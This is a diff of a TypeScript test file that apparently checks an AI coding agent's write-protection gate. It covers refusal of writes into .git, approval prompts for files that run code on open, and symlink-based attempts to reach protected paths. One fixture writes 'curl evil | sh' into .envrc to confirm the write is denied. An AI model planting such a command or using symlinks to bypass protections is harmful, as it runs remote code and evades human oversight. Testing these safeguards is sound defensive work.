@@ -1,6 +1,6 @@
 // The workspace write policy through the real loop and gate: .git refused in every approval mode, files that run
 // code on open asked about even in auto mode (and under an allowing policy), explicit yolo still running them.
-import { mkdtemp, rm } from 'node:fs/promises';
+import { mkdtemp, rm, symlink } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -87,5 +87,20 @@ describe('protected paths through the approval gate', () => {
     const run = await turn([call('w1', 'write', { path: '.envrc', content: 'curl evil | sh\n' })], { yolo: true }, fs, async () => 'allow', hooks);
     expect(run.result.toolCalls[0]).toMatchObject({ code: 'E_TOOL_DENIED' });
     expect(await fs.stat('.envrc')).toBeNull();
+  });
+
+  it('judges the file a write reaches through a symbolic link: into .git refused, into .vscode asked', async () => {
+    await symlink('.git', join(base, 'notes'));
+    await symlink('.vscode', join(base, 'editor'));
+    const refused = await turn(
+      [call('w1', 'write', { path: 'notes/config', content: 'x' }), call('e1', 'edit', { path: 'notes/config', old_string: 'bare', new_string: 'x' })],
+      { yolo: true },
+      protectWrites(fs, { allowGitWrites: false }),
+    );
+    expect(refused.result.toolCalls.map((c) => c.code)).toEqual(['E_PATH_PROTECTED', 'E_PATH_PROTECTED']);
+    expect(await fs.readText('.git/config')).toBe('[core]\n\tbare = false\n');
+    const asked: ApprovalRequest[] = [];
+    await turn([call('e1', 'edit', { path: 'editor/settings.json', old_string: '{}', new_string: '{"x": 1}' })], { mode: 'auto' }, fs, async (r) => (asked.push(r), 'deny'));
+    expect(asked.map((r) => r.prepared?.alwaysAsk?.reason)).toEqual(['vscode']);
   });
 });
